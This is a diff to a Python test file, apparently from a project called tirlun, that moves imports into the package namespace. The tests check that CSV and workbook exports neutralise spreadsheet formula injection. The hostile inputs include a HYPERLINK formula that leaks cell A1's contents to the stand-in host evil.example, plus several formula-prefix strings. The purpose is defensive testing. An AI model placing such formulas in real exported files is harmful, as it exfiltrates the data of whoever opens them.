@@ -21,10 +21,10 @@ import pytest
 import streamlit
 from click.testing import CliRunner
 
-from loader.template import write_csv_templates, write_workbook
 from tirlun import cli
 from tirlun.answers.base import csv_cell
 from tirlun.database import Database
+from tirlun.loader.template import write_csv_templates, write_workbook
 
 LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
 HOSTILE = [LINK, "=1+1", "+1+1", "-1+1", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"]
@@ -72,7 +72,7 @@ def test_cli_query_run_csv(hostile: Database, test_env: dict[str, str]) -> None:
 
 
 def test_full_csv_download(hostile: Database) -> None:
-    from views import common
+    from tirlun.views import common
 
     rows = hostile.read("app_entities", {"kind": "organisation", "region": "r", "limit": None})
     made = common.full_csv(lambda: iter(rows), {"name_en": "col.name"}, lang="en")()
@@ -83,7 +83,7 @@ def test_full_csv_download(hostile: Database) -> None:
 
 def test_shown_rows_download(hostile: Database, monkeypatch: pytest.MonkeyPatch) -> None:
     """The 'rows shown' button gets its bytes from common.table: capture what it is handed."""
-    from views import common
+    from tirlun.views import common
 
     handed: list[bytes] = []
 
@@ -99,8 +99,8 @@ def test_shown_rows_download(hostile: Database, monkeypatch: pytest.MonkeyPatch)
 
 
 def test_region_export_csv_and_workbook_are_inert_and_round_trip(hostile: Database, tmp_path: Path) -> None:
-    from loader.export import export_region
-    from loader.read import read_input
+    from tirlun.loader.export import export_region
+    from tirlun.loader.read import read_input
 
     export_region(hostile, "r", tmp_path / "out")
     text = (tmp_path / "out" / "organisations.csv").read_text(encoding="utf-8")
